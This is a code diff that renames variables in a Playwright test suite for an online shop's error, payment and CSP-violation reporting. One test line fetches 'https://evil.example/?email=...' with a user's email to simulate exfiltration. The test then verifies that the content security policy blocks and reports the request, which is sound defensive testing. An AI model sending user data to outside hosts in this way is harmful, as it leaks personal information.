@@ -74,8 +74,8 @@ async function expectReports(received: ReceivedReport[], ...expected: object[]):
     expect(body.release).toMatch(/^[\w.-]+$/)
   }
   const text = JSON.stringify(reports().map(({ user_agent: _, ...rest }) => rest))
-  for (const personal of ['Rina', rina.email, rina.password, '_secret_', 'Bearer', '?', cards.good])
-    expect(text).not.toContain(personal)
+  for (const personalText of ['Rina', rina.email, rina.password, '_secret_', 'Bearer', '?', cards.good])
+    expect(text).not.toContain(personalText)
 }
 
 test.describe('a shop that reports', { tag: '@release' }, () => {
@@ -90,16 +90,19 @@ test.describe('a shop that reports', { tag: '@release' }, () => {
     await open(page, './parts?q=Rina')
     await throwError(page, `${rina.email} is not a function`)
     await throwError(page, `${rina.email} is not a function`)
-    const thrown = { type: 'error', body: { source: 'promise', name: 'TypeError', message: '… is not a function' } }
-    await expectReports(received, thrown)
+    const thrownReport = {
+      type: 'error',
+      body: { source: 'promise', name: 'TypeError', message: '… is not a function' },
+    }
+    await expectReports(received, thrownReport)
     await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'About' }).click()
     await expect(heading(page, 'We couldn’t load this')).toBeVisible()
     const stack = expect.arrayContaining([expect.stringMatching(/^assets\/AboutRoute-[\w-]+\.js:1:\d+$/)])
-    const caught = { type: 'error', body: { source: 'boundary', page: 'about', stack } }
-    await expectReports(received, thrown, caught)
+    const caughtReport = { type: 'error', body: { source: 'boundary', page: 'about', stack } }
+    await expectReports(received, thrownReport, caughtReport)
     await page.evaluate((email) => fetch(`https://evil.example/?email=${email}`).then(String, () => null), rina.email)
     const body = { effectiveDirective: 'connect-src', blockedURL: 'https://evil.example', page: 'about' }
-    await expectReports(received, thrown, caught, { type: 'csp-violation', body })
+    await expectReports(received, thrownReport, caughtReport, { type: 'csp-violation', body })
   })
 
   test('a payment that is charged but not recorded is reported, and reported again once it has recovered', async ({
@@ -114,14 +117,14 @@ test.describe('a shop that reports', { tag: '@release' }, () => {
     const releaseRecords = await payUnrecorded(page)
     const transactionId = expect.stringMatching(/^pi_\w+$/)
     const failedCall = { type: 'failed-call', body: { call: 'recordPayment', kind: 'network', status: null } }
-    const unrecorded = { type: 'payment', body: { state: 'unrecorded', orderId: order, transactionId } }
-    await expectReports(received, failedCall, unrecorded)
+    const unrecordedReport = { type: 'payment', body: { state: 'unrecorded', orderId: order, transactionId } }
+    await expectReports(received, failedCall, unrecordedReport)
 
     await releaseRecords()
     await page.goto('./dashboard/mypurchases')
     await expect(page.getByText(/All-Ready Paid/)).toBeVisible()
-    const recovered = { type: 'payment', body: { state: 'recovered', orderId: order } }
-    await expectReports(received, failedCall, unrecorded, recovered)
+    const recoveredReport = { type: 'payment', body: { state: 'recovered', orderId: order } }
+    await expectReports(received, failedCall, unrecordedReport, recoveredReport)
     expect(charges).toHaveLength(1)
   })
 
@@ -147,9 +150,9 @@ test.describe('a shop that reports', { tag: '@release' }, () => {
 
   test('the first load grows by 0.4 kB, and the lazy reporting code has 5.5 kB (REPORT-3)', ({ shop: { dir } }) => {
     expect(readFileSync('dist/_headers', 'utf8')).not.toMatch(/report/i)
-    const firstLoadOf = (folder: string) => gzippedKB(folder, findScripts(readManifest(folder), 'index.html'))
-    expect(firstLoadOf(dir) - firstLoadOf('dist')).toBeLessThan(0.4)
-    const rest = Object.entries(readManifest(dir)).find(([key]) => key.endsWith('/sendReports.ts'))
-    expect(gzippedKB(dir, [rest?.[1].file ?? ''])).toBeLessThan(5.5)
+    const getFirstLoadKB = (folder: string) => gzippedKB(folder, findScripts(readManifest(folder), 'index.html'))
+    expect(getFirstLoadKB(dir) - getFirstLoadKB('dist')).toBeLessThan(0.4)
+    const reportingChunk = Object.entries(readManifest(dir)).find(([key]) => key.endsWith('/sendReports.ts'))
+    expect(gzippedKB(dir, [reportingChunk?.[1].file ?? ''])).toBeLessThan(5.5)
   })
 })
